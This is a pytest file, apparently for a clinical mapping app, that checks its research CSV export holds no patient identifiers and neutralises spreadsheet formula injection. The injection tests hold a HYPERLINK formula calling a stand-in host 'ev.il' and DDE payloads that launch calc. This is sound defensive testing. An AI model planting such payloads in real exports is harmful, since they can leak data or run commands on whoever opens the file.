"""The research CSV: one row per insertion, documented columns, no identifiers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from imsmap.cli import main
from imsmap.services.demo import create_demo
from imsmap.services.export_csv import COLUMNS

DOC = Path(__file__).resolve().parents[1] / "docs" / "export-format.md"


def test_csv_has_one_row_per_site_and_no_names(tmp_path, capsys):
    db = tmp_path / "demo.sqlite3"
    create_demo(db)
    capsys.readouterr()
    assert main(["export", "--db", str(db), "--csv"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0].keys()) == COLUMNS

    import sqlite3
    conn = sqlite3.connect(db)
    try:
        n_sites = conn.execute("SELECT count(*) FROM sites WHERE deleted_at IS NULL").fetchone()[0]
        names = [n for row in conn.execute("SELECT family_name, given_name, chart_number"
                                           " FROM patients") for n in row]
    finally:
        conn.close()
    assert len(rows) == n_sites > 100
    for name in names:
        assert name not in text
    assert all(re.fullmatch(r"P\d+", r["patient"]) for r in rows)
    paraspinal = [r for r in rows if r["level"] and r["region"] == "paraspinal"]
    assert paraspinal and all(r["roots"] == r["level"] == r["dominant_root"] for r in paraspinal)
    graded = [r for r in rows if r["grasp"] != ""]
    assert graded and all(r["grasp"] in {"0", "1", "2", "3"} for r in graded)


def test_every_csv_column_is_documented():
    doc = DOC.read_text(encoding="utf-8")
    missing = [c for c in COLUMNS if f"`{c}`" not in doc]
    assert not missing, f"document these columns in docs/export-format.md: {missing}"


def test_csv_refuses_a_session_filter(tmp_path, capsys):
    db = tmp_path / "demo.sqlite3"
    create_demo(db)
    capsys.readouterr()
    assert main(["export", "--db", str(db), "--csv", "--session", "1"]) == 2
    assert "leave out --session" in capsys.readouterr().err


# -- issue 12, M5: only coded fields, and no formulas ---------------------------------------------
FORMULA = '=HYPERLINK("http://ev.il/"&A2,"Click")'


def _hostile_clinic(path):
    """A record whose free-text and tampered fields carry a name, a birth date and formulas:
    the layer typed in the app (the service takes any short text there), and codes outside
    their vocabularies written into the file behind the app's back."""
    import sqlite3
    from datetime import datetime

    from imsmap.services.context import open_records

    recs = open_records(path, actor="test.physio")
    try:
        patient = recs.create_patient(chart_number="C-77", family_name="Okonkwo",
                                      given_name="Adaeze", birth_date="1961-03-09", sex="F")
        session = recs.start_session(patient.id, started_at=datetime(2026, 11, 20, 9, 30))
        view_id, view = next((v, view) for v, view in recs.atlas.views.items() if view.regions)
        region = view.regions[0]
        x0, y0, x1, y1 = region.bbox
        x, y = (x0 + x1) / 2, (y0 + y1) / 2
        layers = ("Adaeze Okonkwo 1961-03-09", FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(A1)",
                  "-2+3", "Born 09/03/1961", region.layer)
        for layer in layers:
            recs.add_site(session.id, view_id, x, y, muscle_id=region.muscle, side=region.side,
                          layer=layer, grasp=2, tissue_feel="normal")
    finally:
        recs.db.close()
    conn = sqlite3.connect(path)
    try:
        for text in ("=1+1", "@evil", "Okonkwo", "\tTAB"):
            conn.execute("INSERT OR IGNORE INTO terms (text) VALUES (?)", (text,))
        term = dict(conn.execute("SELECT text, id FROM terms").fetchall())
        conn.execute("UPDATE sites SET tissue_feel = ?, release = ?, sensation = ?, "
                     "level = '=2*3' WHERE seq = 1", (term["=1+1"], term["@evil"],
                                                      term["Okonkwo"]))
        conn.execute("UPDATE sites SET muscle_id = ?, view_id = ? WHERE seq = 2",
                     (term["=1+1"], term["@evil"]))
        conn.execute("UPDATE sites SET layer = ? WHERE seq = 6", (term["\tTAB"],))
        conn.execute("UPDATE sessions SET atlas_version = '=cmd|calc'")
        conn.commit()
    finally:
        conn.close()
    return region.layer


def test_csv_holds_only_codes_and_no_formula(tmp_path, capsys):
    db = tmp_path / "hostile.sqlite3"
    real_layer = _hostile_clinic(db)
    out = tmp_path / "research.csv"
    assert main(["export", "--db", str(db), "--csv", "--out", str(out)]) == 0
    capsys.readouterr()
    text = out.read_text(encoding="utf-8")
    for secret in ("Okonkwo", "Adaeze", "1961", "C-77", "HYPERLINK", "cmd", "SUM", "evil",
                   "TAB", "=1+1", "=2*3"):
        assert secret not in text, secret
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == 7
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
    records = [dict(zip(COLUMNS, row)) for row in rows]
    assert [r["layer"] for r in records] == ["withheld"] * 6 + [real_layer]
    first, second = records[0], records[1]
    assert (first["tissue_feel"], first["release"], first["sensation"], first["level"]) == \
        ("withheld",) * 4
    assert (second["muscle_id"], second["muscle_name"], second["view"]) == \
        ("withheld", "", "withheld")
    assert all(r["atlas_version"] == "withheld" for r in records)
    assert all(r["grasp"] == "2" and r["tissue_feel"] in ("normal", "withheld")
               for r in records)


def test_formula_prefixes_are_made_inert_and_numbers_stay_numbers():
    from imsmap.services.export_csv import neutralise

    for bad in ("=1+1", "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "\uff1dSUM(A1)"):
        assert neutralise(bad) == "'" + bad
    assert neutralise(-500.0) == -500.0 and neutralise(3) == 3 and neutralise(None) == ""
    assert neutralise("deltoid") == "deltoid"


def test_an_amended_session_is_counted_in_its_rows_and_its_words_stay_out(tmp_path, capsys):
    """A grade entered wrong and corrected by an amendment after signing: the research file
    carried the signed grade with session_status 'signed' and nothing to say that a correction
    exists. Each row now counts its session's amendments (their words still stay out)."""
    from imsmap.services.context import open_context

    db = tmp_path / "demo.sqlite3"
    create_demo(db)
    capsys.readouterr()
    ctx = open_context(db)
    try:
        records = ctx.records
        signed = [s for s in records.repo.sessions_for_patient(1) if s.is_signed]
        already = records.repo.amendment_counts(1)
        target = next(s for s in signed if s.id not in already)
        records.amend_session(target.id, "Grade entered wrong for site 1",
                              "Site 1 grasped 3 strong, not 1 mild.")
        records.amend_session(target.id, "Typo", "Site 1, not site 2.")
    finally:
        ctx.close()
    assert main(["export", "--db", str(db), "--csv"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert COLUMNS[-1] == "amendments"
    mine = [r for r in rows if r["session"] == f"S{target.id}"]
    assert mine and all(r["amendments"] == "2" and r["session_status"] == "signed"
                        for r in mine)
    for sid, n in already.items():
        assert {r["amendments"] for r in rows if r["session"] == f"S{sid}"} <= {str(n)}
    others = [r for r in rows if r["patient"] == "P1" and r["session"] != f"S{target.id}"
              and int(r["session"][1:]) not in already]
    assert others and {r["amendments"] for r in others} == {"0"}
    assert "Grade entered wrong" not in text and "not 1 mild" not in text
